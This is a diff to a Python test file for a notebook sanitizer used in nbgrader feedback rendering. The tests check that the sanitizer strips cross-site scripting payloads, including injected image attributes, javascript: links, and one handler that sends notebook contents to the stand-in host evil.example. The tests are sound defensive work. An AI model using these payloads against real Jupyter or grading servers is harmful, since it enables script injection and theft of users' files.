@@ -2,17 +2,45 @@
 
 from __future__ import annotations
 
+import math
 from pathlib import Path
+from typing import Any
 
 import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from nbconvert import HTMLExporter
+from nbgrader.converters import GenerateFeedback
+from nbgrader.coursedir import CourseDirectory
 
-from descentlab_grading.sanitize import WIDGET_NOTE, make_safe, safe_outputs
+from descentlab_grading.sanitize import (
+    WIDGET_NOTE,
+    make_safe,
+    safe_markdown,
+    safe_metadata,
+    safe_outputs,
+)
 
 SCRIPT = "<script>steal()</script>"
 
+#: What a red-team audit displayed through the real grade command: nbconvert writes an
+#: image's width and height into its ``<img>`` tag unquoted, so each space starts an
+#: attribute of the student's choice (under the image's type, or at the top level, where
+#: nbconvert looks when the type has none).
+HOSTILE_PNG = {"image/png": {"width": "300 onerror=alert(document.domain)"},
+               "height": "2 onmouseover=alert(3)",
+               "filenames": {"image/png": "javascript:alert(4)"}}
+HOSTILE_JPEG = {"image/jpeg": {"width": 120, "height": "1 onerror=\"fetch('/api/contents')"
+                                                      ".then(r => r.text()).then(t => "
+                                                      "fetch('//evil.example/?' + t))\""}}
+#: An honest figure: matplotlib's retina PNG, its size in CSS pixels (half the image's).
+RETINA = {"image/png": {"width": 489, "height": 266}}
+PNG, JPEG = "iVBORw0KGgo=", "/9j/4AAQ"
 
-def _display(data: dict[str, str]) -> nbformat.NotebookNode:
-    return nbformat.v4.new_output("display_data", data=data)
+
+def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None,
+             ) -> nbformat.NotebookNode:
+    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})
 
 
 def test_html_keeps_its_markup_and_loses_what_runs() -> None:
@@ -30,7 +58,30 @@ def test_html_keeps_its_markup_and_loses_what_runs() -> None:
 
 def test_markdown_output_is_cleaned_too() -> None:
     [output] = safe_outputs([_display({"text/markdown": f"**bold** {SCRIPT}"})])
-    assert output["data"] == {"text/markdown": "**bold** "}
+    assert output["data"] == {"text/html": "<p><strong>bold</strong> </p>\n"}
+
+
+#: Markdown links a red-team audit showed reaching the page as ``href="javascript:..."``.
+JS_LINKS = ["[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))",
+            "<javascript:alert(1)>", "[r]\n\n[r]: javascript:alert(1)",
+            "![i](javascript:alert(1))", "[x](JavaScript:alert(1) 'title')"]
+
+
+@pytest.mark.parametrize("link", JS_LINKS)
+def test_markdown_links_that_run_script_lose_their_target(link: str) -> None:
+    html = safe_markdown(f"Notes: {link} and *this* with $x^2$")
+    targets = [a.get("href") or a.get("src") for a in BeautifulSoup(html, "html.parser")
+               .find_all(["a", "img"])]
+    assert not any(t and "script" in t.lower() for t in targets), html
+    assert "<em>this</em>" in html
+    assert "$x^2$" in html
+    [output] = safe_outputs([_display({"text/markdown": link})])
+    assert "href=" not in output["data"]["text/html"], output
+
+
+def test_safe_markdown_links_stay() -> None:
+    html = safe_markdown("[the book](https://example.org/a_b) and <https://example.org>")
+    assert html.count('href="https://example.org') == 2, html
 
 
 def test_what_a_browser_runs_is_dropped_and_text_images_latex_stay() -> None:
@@ -70,6 +121,85 @@ def test_the_lessons_text_stays_and_the_students_own_is_cleaned(tmp_path: Path) 
     make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")
 
     nb = nbformat.read(tmp_path / "graded.ipynb", as_version=4)
-    assert [c.source for c in nb.cells] == [lesson_text, "My notes <i>here</i>", "", "x = 1"]
+    assert [c.source for c in nb.cells] == [lesson_text, "<p>My notes <i>here</i></p>\n", "",
+                                            "x = 1"]
     assert nb.cells[3].outputs[0]["data"] == {"text/html": ""}
     assert "widgets" not in nb.metadata
+
+
+def test_an_images_size_stays_only_as_a_positive_number() -> None:
+    for size in (489, 244.5, "300"):
+        assert safe_metadata({"image/png": {"width": size}}) == {"image/png": {"width": size}}
+    for size in ("300 onerror=alert(1)", "300px", "50%", " 300", "\u0663", "0", 0, -5,
+                 math.inf, math.nan, True, None, [300], {"a": 1}):
+        assert safe_metadata({"image/png": {"width": size}, "height": size}) == {}, size
+
+
+def test_output_metadata_keeps_what_an_image_means_and_nothing_else() -> None:
+    honest = {"image/png": {"width": 400, "height": "300", "alt": 'a "loss" curve',
+                            "unconfined": True, "needs_background": "light"}}
+    assert safe_metadata(honest) == honest
+    assert safe_metadata({
+        "image/png": {"unconfined": "yes", "needs_background": "x onclick=y", "alt": 3,
+                      "src": "javascript:alert(1)"},
+        "text/html": {"isolated": True}, "filenames": {"image/png": "javascript:alert(1)"},
+        "application/json": {"expanded": True}, "anything": "else"}) == {}
+    assert safe_metadata("300 onerror=alert(1)") == {}
+    assert safe_metadata({"image/jpeg": "1 onerror=alert(1)"}) == {}
+
+
+def _graded_with_figures(tmp_path: Path) -> Path:
+    """A graded notebook whose code displayed the audit's images and an honest figure."""
+    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]),
+                   tmp_path / "release.ipynb")
+    figures = nbformat.v4.new_code_cell("plot()", execution_count=1, outputs=[
+        _display({"image/png": PNG, "text/plain": "<Figure>"}, HOSTILE_PNG),
+        _display({"image/jpeg": JPEG, "text/plain": "<Image>"}, HOSTILE_JPEG),
+        _display({"image/png": PNG, "text/plain": "<Figure size 640x480>"}, RETINA),
+        nbformat.v4.new_output("execute_result", execution_count=1,
+                               data={"image/png": PNG}, metadata=HOSTILE_PNG),
+    ])
+    nbformat.write(nbformat.v4.new_notebook(cells=[figures]), tmp_path / "graded.ipynb")
+    make_safe(tmp_path / "graded.ipynb", tmp_path / "release.ipynb")
+    return tmp_path / "graded.ipynb"
+
+
+def test_the_graded_notebook_keeps_only_harmless_output_metadata(tmp_path: Path) -> None:
+    nb = nbformat.read(_graded_with_figures(tmp_path), as_version=4)
+    assert [o.metadata for o in nb.cells[0].outputs] == [
+        {}, {"image/jpeg": {"width": 120}}, RETINA, {}]
+    assert [o.data for o in nb.cells[0].outputs][:3] == [
+        {"image/png": PNG, "text/plain": "<Figure>"},
+        {"image/jpeg": JPEG, "text/plain": "<Image>"},
+        {"image/png": PNG, "text/plain": "<Figure size 640x480>"}]
+
+
+def _feedback_page(notebook: Path) -> str:
+    """``notebook`` as ``nbgrader generate_feedback`` renders it: nbgrader's exporter, made
+    as nbgrader makes it (its "feedback" template, on nbconvert's classic one), without the
+    preprocessors that read the gradebook (their scores are given here)."""
+    converter = GenerateFeedback(coursedir=CourseDirectory(root=str(notebook.parent)))
+    exporter = HTMLExporter(parent=converter, config=converter.config)
+    assert exporter.template_name == "feedback"
+    page, _ = exporter.from_filename(str(notebook), resources={"nbgrader": {
+        "notebook": notebook.stem, "score": 0.0, "max_score": 1.0, "late_penalty": 0.0}})
+    return page
+
+
+def test_the_feedback_page_runs_nothing_from_output_metadata(tmp_path: Path) -> None:
+    page = _feedback_page(_graded_with_figures(tmp_path))
+    for word in ("onerror", "onmouseover", "/api/contents"):
+        assert word not in page.lower(), word
+    soup = BeautifulSoup(page, "html.parser")
+    for style in soup.find_all("style"):  # Bootstrap's own CSS names a[href^="javascript:"]
+        style.decompose()
+    assert "javascript:" not in str(soup).lower()
+    assert not [tag for tag in soup.find_all(True)
+                if any(name.lower().startswith("on") for name in tag.attrs)]
+    # nbconvert gives an image without alt text one of its own ("No description ...").
+    images = [{name: value for name, value in img.attrs.items() if name != "alt"}
+              for img in soup.find_all("img")]
+    src_png, src_jpeg = f"data:image/png;base64,{PNG}", f"data:image/jpeg;base64,{JPEG}"
+    # Every figure is shown; the honest one at its size.
+    assert images == [{"src": src_png}, {"src": src_jpeg, "width": "120"},
+                      {"src": src_png, "width": "489", "height": "266"}, {"src": src_png}]
